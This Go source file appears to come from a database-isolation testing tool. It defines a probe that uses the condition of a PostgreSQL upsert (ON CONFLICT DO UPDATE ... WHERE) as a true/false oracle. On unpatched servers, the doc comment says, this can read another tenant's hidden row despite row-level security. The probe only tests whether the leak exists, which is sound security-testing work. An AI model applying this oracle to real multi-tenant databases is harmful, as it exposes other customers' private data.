package attack

import (
	"context"

	"github.com/jackc/pgx/v5"

	"github.com/ringfencehq/ringfence/internal/pg"
)

var onConflictWhere = Probe{
	Name: "on_conflict_where",
	Doc: `read another tenant's row by the condition of an upsert

Servers older than their last security release work out DO UPDATE ... WHERE on the hidden row before they ask the policy: an
error where the condition is true, silence where it is false, and so any column can be read.`,
	Command: "SELECT", Kind: "inference", Writes: true, Ways: keyWays,
	Try: func(ctx context.Context, tx pgx.Tx, t *Target) (bool, error) {
		set, err := t.harmless(ctx, tx)
		if err != nil {
			return false, err
		}
		meetings, err := t.meetings(ctx, tx)
		if err != nil {
			return false, err
		}
		for _, c := range meetings {
			ask := func(value string) (n int64, err error) {
				last := t.Key[len(t.Key)-1]
				sql := t.insert(c.row) + " ON CONFLICT " + c.target + " DO UPDATE SET " + set +
					" WHERE " + pg.Ident(t.Table.Relation.Name) + "." + pg.Ident(last) + "::text = " + value
				_ = undone(ctx, tx, func(sp pgx.Tx) error { n, err = t.exec(ctx, sp, sql); return err })
				return n, err
			}
			n, whenTrue := ask(literal(t.Row[t.Key[len(t.Key)-1]]))
			m, whenFalse := ask("'ringfence: no such value'")
			if m == 0 && whenFalse == nil && (n > 0 || state(whenTrue) == insufficientPrivilege) {
				return true, nil
			}
		}
		return false, nil
	},
}
